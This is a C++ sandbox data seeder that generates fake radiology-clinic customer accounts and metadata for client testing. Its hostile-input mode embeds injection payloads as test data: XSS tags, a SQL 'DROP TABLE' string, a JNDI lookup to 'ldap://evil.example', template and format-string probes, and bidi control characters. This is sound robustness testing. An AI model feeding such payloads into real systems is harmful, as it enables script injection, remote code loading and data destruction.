// SPDX-FileCopyrightText: 2026 Avara Console contributors
// SPDX-License-Identifier: GPL-3.0-or-later
#include "sandbox/sandboxseeder.h"

#include <algorithm>
#include <cmath>
#include <iterator>
#include <string>

#include <QByteArrayView>
#include <QSet>
#include <QString>

#include "sandbox/sandboxrandom.h"

using namespace Qt::StringLiterals;

namespace
{

// 2019-01-01T00:00:00Z and 2025-12-31T23:59:59Z: seeded times never depend on today.
constexpr qint64 seedEpochStart = 1546300800;
constexpr qint64 seedEpochEnd = 1767225599;

// The tables read better as tables.
// clang-format off
constexpr QByteArrayView places[] = {
    "Northside", "Riverside", "Lakeview", "St. Mary's", "St. Luke's", "Mercy", "Good Samaritan",
    "Cedar Valley", "Pine Ridge", "Harbor", "Summit", "Westbrook", "Oakwood", "Maple Grove", "Bayview",
    "Highland", "Fairview", "Greenfield", "Sacred Heart", "Providence", "Kingston", "Brookside",
    "Eastgate", "Silver Lake", "Crescent", "Coastal", "Metro", "University", "Children's", "County",
    "Memorial", "Willow Creek", "Red Rock", "Blue Ridge", "Prairie View", "Granite State", "Sunrise",
    "Golden Valley", "Ironwood", "Clearwater", "Stonebridge", "Hillcrest", "Three Rivers", "Ashford",
};

constexpr QByteArrayView facilities[] = {
    "Hospital", "Medical Center", "Imaging Center", "Radiology Associates", "Diagnostic Imaging",
    "Health", "Clinic", "Orthopedic Group", "Cancer Center", "Heart Institute", "Women's Health Center",
    "Community Hospital", "Outpatient Center", "Regional Medical Center", "Specialty Clinic",
    "Family Practice", "Imaging Partners", "Children's Hospital",
};

constexpr QByteArrayView departments[] = {
    "Radiology Department", "MRI", "CT", "Ultrasound", "Mammography", "Nuclear Medicine",
    "Interventional Radiology", "Emergency Department", "Cardiology", "Neuroradiology",
    "Pediatric Radiology", "X-Ray", "PET/CT", "Breast Imaging", "Oncology", "Musculoskeletal Imaging",
    "Teleradiology", "Vascular Lab", "Sports Medicine", "Night Reads",
};

constexpr QByteArrayView organizationTypes[] = {
    "Health System", "Radiology Partners", "Medical Group", "Imaging Network", "Healthcare",
    "Physicians Group", "Teleradiology Group", "Health Alliance", "Diagnostic Services", "Care Network",
};

constexpr QByteArrayView cities[] = {
    "Springfield", "Tacoma", "Dayton", "Boise", "Albany", "Fresno", "Knoxville", "Madison", "Reno",
    "Savannah", "Tulsa", "Bangor", "Duluth", "Eugene", "Lubbock", "Provo", "Trenton", "Wichita",
};

constexpr QByteArrayView regions[] = { "northeast", "southeast", "midwest", "southwest", "west", "northwest",
                                        "mid-atlantic", "pacific", "mountain", "gulf-coast" };
constexpr QByteArrayView departmentValues[] = { "radiology", "cardiology", "oncology", "neurology",
                                                 "orthopedics", "emergency", "pediatrics", "womens-health",
                                                 "nuclear-medicine", "interventional" };
constexpr QByteArrayView tiers[] = { "basic", "standard", "standard", "professional", "enterprise" };
constexpr QByteArrayView modalities[] = { "MRI", "CT", "US", "XR", "MG", "NM", "PET-CT", "DX", "CR", "MR/CT" };
constexpr QByteArrayView timezones[] = { "America/New_York", "America/Chicago", "America/Denver",
                                          "America/Los_Angeles", "America/Phoenix", "America/Anchorage",
                                          "Pacific/Honolulu" };
constexpr QByteArrayView integrations[] = { "hl7v2", "fhir-r4", "dicomweb", "sftp-batch", "none" };
constexpr QByteArrayView pacsVendors[] = { "dcm4chee", "Orthanc", "in-house", "cloud-pacs", "other" };
constexpr QByteArrayView managers[] = { "Dana Whitfield", "Marcus Oyelaran", "Priya Raman", "Tomás Herrera",
                                         "Grace Liu", "Samuel Becker", "Aisha Karimi", "Noah Lindqvist" };

enum class MetadataKey {
    Region, Department, Tier, BillingCode, Modality, Timezone, ContractId, Integration, PacsVendor,
    SiteCode, AccountManager, CostCenter,
};
constexpr QByteArrayView metadataKeyNames[] = { "region", "department", "tier", "billingCode", "modality",
                                                 "timezone", "contractId", "integration", "pacsVendor",
                                                 "siteCode", "accountManager", "costCenter" };
constexpr int metadataKeyCount = int(std::size(metadataKeyNames));

// Weights of 0..8 metadata pairs: most accounts carry a few, some none, few many.
constexpr int pairCountWeights[] = { 15, 14, 16, 15, 12, 10, 8, 6, 4 };
// clang-format on

template <typename T, std::size_t N> QByteArrayView pick(SandboxRandom &random, const T (&table)[N])
{
    return table[random.below(N)];
}

// Table entries are literals: QByteArray::fromRawData shares them instead of copying.
QByteArray literal(QByteArrayView text)
{
    return QByteArray::fromRawData(text.data(), text.size());
}

// `prefix` followed by `count` random decimal digits, in one allocation.
QByteArray digits(SandboxRandom &random, int count, QByteArrayView prefix = {})
{
    QByteArray text(prefix.size() + count, Qt::Uninitialized);
    char *out = std::copy(prefix.begin(), prefix.end(), text.data());
    for (int i = 0; i < count; ++i)
        out[i] = char('0' + random.below(10));
    return text;
}

QByteArray hex(SandboxRandom &random, int count)
{
    static constexpr char hexDigits[] = "0123456789abcdef";
    QByteArray text(count, '0');
    quint64 bits = 0;
    for (int i = 0; i < count; ++i) {
        if (i % 16 == 0)
            bits = random.next();
        text[i] = hexDigits[bits & 0xf];
        bits >>= 4;
    }
    return text;
}

// The prefix and 32 hex digits of two random words, in one allocation.
QByteArray accountId(QByteArrayView prefix, quint64 high, quint64 low)
{
    static constexpr char hexDigits[] = "0123456789abcdef";
    QByteArray id(prefix.size() + 32, Qt::Uninitialized);
    char *out = std::copy(prefix.begin(), prefix.end(), id.data());
    for (quint64 word : { high, low }) {
        for (int shift = 60; shift >= 0; shift -= 4)
            *out++ = hexDigits[(word >> shift) & 0xf];
    }
    return id;
}

QByteArray uuid(SandboxRandom &random)
{
    QByteArray digitsText = hex(random, 32);
    digitsText[12] = '4'; // version 4
    digitsText[16] = "89ab"[random.below(4)]; // RFC 4122 variant
    return digitsText.left(8) + '-' + digitsText.mid(8, 4) + '-' + digitsText.mid(12, 4) + '-' + digitsText.mid(16, 4)
        + '-' + digitsText.mid(20);
}

QByteArray metadataValue(SandboxRandom &random, MetadataKey key, qint64 createdAt)
{
    switch (key) {
    case MetadataKey::Region:
        return literal(pick(random, regions));
    case MetadataKey::Department:
        return literal(pick(random, departmentValues));
    case MetadataKey::Tier:
        return literal(pick(random, tiers));
    case MetadataKey::BillingCode:
        return digits(random, 6, "BC-");
    case MetadataKey::Modality:
        return literal(pick(random, modalities));
    case MetadataKey::Timezone:
        return literal(pick(random, timezones));
    case MetadataKey::ContractId:
        return "CTR-" + QByteArray::number(1970 + createdAt / 31556952) + digits(random, 5, "-");
    case MetadataKey::Integration:
        return literal(pick(random, integrations));
    case MetadataKey::PacsVendor:
        return literal(pick(random, pacsVendors));
    case MetadataKey::SiteCode: {
        QByteArray code(3, 'A');
        for (char &c : code)
            c = char('A' + random.below(26));
        return code + '-' + digits(random, 2);
    }
    case MetadataKey::AccountManager:
        return literal(pick(random, managers));
    case MetadataKey::CostCenter:
        return digits(random, 4, "CC-");
    }
    return {};
}

// Names are assembled in a per-thread scratch buffer and copied out once: appending
// short pieces to a QByteArray is slow in Qt 6.4 (it goes through insert()).
class NameBuilder
{
public:
    NameBuilder() { scratch().clear(); }
    NameBuilder &operator<<(QByteArrayView text)
    {
        scratch().append(text.data(), std::size_t(text.size()));
        return *this;
    }
    QByteArray take() const { return QByteArray(scratch().data(), qsizetype(scratch().size())); }

private:
    static std::string &scratch()
    {
        thread_local std::string buffer;
        return buffer;
    }
};

QByteArray customerName(SandboxRandom &random)
{
    const QByteArrayView place = pick(random, places);
    const QByteArrayView facility = pick(random, facilities);
    const double shape = random.uniform();
    NameBuilder name;
    if (shape < 0.12)
        return (name << pick(random, cities) << " " << facility).take();
    name << place << " " << facility;
    if (shape < 0.30)
        return name.take();
    name << " - " << pick(random, departments);
    if (shape > 0.88)
        name << " (" << pick(random, cities) << ")";
    return name.take();
}

QByteArray organizationName(SandboxRandom &random)
{
    const double shape = random.uniform();
    NameBuilder name;
    if (shape < 0.55)
        name << pick(random, places) << " " << pick(random, organizationTypes);
    else if (shape < 0.80)
        name << pick(random, places) << " " << pick(random, facilities);
    else
        name << pick(random, cities) << " " << pick(random, organizationTypes);
    if (random.chance(0.15))
        name << " - " << pick(random, regions) << " region";
    return name.take();
}

// Exactly `length` characters of Basic Multilingual Plane text, with multi-byte UTF-8 in
// it: a client that counts bytes instead of characters would wrongly call it too long.
QByteArray longBmpText(int length)
{
    const QString unit = u"Très long texte – "_s;
    QString text;
    text.reserve(length + unit.size());
    while (text.size() < length)
        text.append(unit);
    text.truncate(length);
    return text.toUtf8();
}

QList<QByteArray> makeHostileNames()
{
    return {
        "<img src=x onerror=alert(1)> Imaging Center",
        "<a href=\"https://evil.example\">click</a>",
        "<b>bold</b> Radiology Associates",
        u"Northside \u202Eygoloidar\u202C Clinic"_s.toUtf8(),
        u"\U0001F3E5 Sunrise Clinic \U0001F469\u200D\u2695\uFE0F \U0001F1FA\U0001F1F8"_s.toUtf8(),
        QByteArray("Tab\there\nnewline\r\x01 \x1b[31mred\x1b[0m \x7f end"),
        longBmpText(1000),
        "\"Quoted\" \\backslash\\ 'single' `tick`; DROP TABLE accounts;--",
        u"\u200B"_s.toUtf8(),
        u"Z\u0335\u0321a\u0334l\u0337g\u0336o\u0338 Medical \u2028Line\u2029Para"_s.toUtf8(),
        u"\u0645\u0631\u0643\u0632 \u0627\u0644\u0623\u0634\u0639\u0629 - Radiology \u05E2\u05D1\u05E8\u05D9\u05EA"_s
            .toUtf8(),
        "${jndi:ldap://evil.example/a} {{7*7}} %s%n",
    };
}

SandboxMetadata hostileMetadata(int variant, SandboxRandom &random)
{
    SandboxMetadata metadata;
    switch (variant % 6) {
    case 0:
        metadata.emplaceBack("<script>alert(1)</script>", "<img src=x onerror=alert(1)>");
        metadata.emplaceBack("link", "<a href=\"https://evil.example\">click</a>");
        break;
    case 1:
        metadata.emplaceBack("note", longBmpText(1000));
        metadata.emplaceBack(QByteArray(100, 'k'), "key of exactly 100 characters");
        break;
    case 2:
        metadata.emplaceBack(u"\U0001F525hot"_s.toUtf8(), u"\U0001F680\U0001F680\U0001F680"_s.toUtf8());
        metadata.emplaceBack("bidi", u"abc\u202Efed\u202C"_s.toUtf8());
        break;
    case 3: {
        static const char control[] = "nul\0byte\x01\x02\x1f\ttab\nline";
        metadata.emplaceBack("control", QByteArray(control, sizeof control - 1));
        metadata.emplaceBack("quote\"key", "back\\slash \"quoted\"");
        break;
    }
    case 4:
        // The most pairs the API allows.
        for (int i = 0; i < 50; ++i)
            metadata.emplaceBack("key" + QByteArray::number(i), hex(random, 8));
        break;
    default:
        metadata.emplaceBack("empty", QByteArray());
        metadata.emplaceBack(" ", "   ");
        break;
    }
    return metadata;
}

} // namespace

QList<QByteArray> SandboxSeeder::hostileNames()
{
    return makeHostileNames();
}

std::vector<SandboxAccount> SandboxSeeder::generate(SandboxKind kind, int count, quint64 seed, bool hostile)
{
    std::vector<SandboxAccount> accounts;
    if (count <= 0)
        return accounts;
    accounts.reserve(std::size_t(count));

    // One stream per kind, so the customers of a seed do not change with the number of orgs.
    SandboxRandom random(seed * 0x9e3779b97f4a7c15ULL + (kind == SandboxKind::ExpressCustomer ? 0x1111 : 0x2222));

    // A tenant has a handful of API keys and dashboard users who create its accounts.
    QList<QByteArray> apiKeyIds;
    for (int i = 0; i < 3; ++i)
        apiKeyIds.append(uuid(random));
    QList<QByteArray> userIds;
    for (int i = 0; i < 24; ++i)
        userIds.append("usr_" + hex(random, 32));
    const QList<QByteArray> hostileNameList = hostile ? makeHostileNames() : QList<QByteArray>();

    const QByteArrayView prefix = sandboxKindNames(kind).idPrefix;
    // Unique high halves make unique ids, and integers hash faster than 36-byte strings.
    QSet<quint64> seenHighWords;
    seenHighWords.reserve(count);
    int hostileIndex = 0;
    const double span = double(seedEpochEnd - seedEpochStart);
    const double logMaxUsers = std::log(4000.0);
    int pairWeightTotal = 0;
    for (int weight : pairCountWeights)
        pairWeightTotal += weight;

    for (int i = 0; i < count; ++i) {
        SandboxAccount account;
        quint64 high = 0;
        do {
            high = random.next();
        } while (seenHighWords.contains(high));
        seenHighWords.insert(high);
        account.id = accountId(prefix, high, random.next());

        const bool isHostile = hostile && random.chance(0.25);
        if (isHostile)
            account.name = hostileNameList.at(hostileIndex % hostileNameList.size());
        else
            account.name = kind == SandboxKind::ExpressCustomer ? customerName(random) : organizationName(random);

        account.isActive = !random.chance(0.12);
        // Log-uniform from 1 to 4000 users, and some empty accounts: most are small.
        account.userCount = random.chance(0.08) ? 0 : qint64(std::exp(random.uniform() * logMaxUsers));

        // Creation times rise with the list order, as a server that lists oldest first would show.
        account.createdAt = seedEpochStart + qint64((double(i) + random.uniform()) * span / count);
        const bool touched = !account.isActive || random.chance(0.65);
        if (touched) {
            const double soon = random.uniform();
            account.updatedAt = account.createdAt + qint64(soon * soon * double(seedEpochEnd - account.createdAt));
        } else {
            account.updatedAt = account.createdAt;
        }

        if (random.chance(0.5))
            account.createdByApiKeyId = apiKeyIds.at(int(random.below(quint64(apiKeyIds.size()))));
        else
            account.createdByUserId = userIds.at(int(random.below(quint64(userIds.size()))));

        if (isHostile) {
            account.hasMetadata = true;
            account.metadata = hostileMetadata(hostileIndex, random);
            ++hostileIndex;
        } else {
            int roll = int(random.below(quint64(pairWeightTotal)));
            int pairs = 0;
            while (roll >= pairCountWeights[pairs]) {
                roll -= pairCountWeights[pairs];
                ++pairs;
            }
            // A partial Fisher-Yates shuffle picks `pairs` distinct keys in random order.
            int keys[metadataKeyCount];
            for (int k = 0; k < metadataKeyCount; ++k)
                keys[k] = k;
            account.metadata.reserve(pairs);
            for (int k = 0; k < pairs; ++k) {
                const int other = k + int(random.below(quint64(metadataKeyCount - k)));
                std::swap(keys[k], keys[other]);
                const auto key = MetadataKey(keys[k]);
                account.metadata.append(
                    { literal(metadataKeyNames[keys[k]]), metadataValue(random, key, account.createdAt) });
            }
            // Accounts without metadata either leave the field out or send {}: both are valid.
            account.hasMetadata = pairs > 0 || random.chance(0.4);
        }
        account.serialize(kind);
        accounts.push_back(std::move(account));
    }
    return accounts;
}
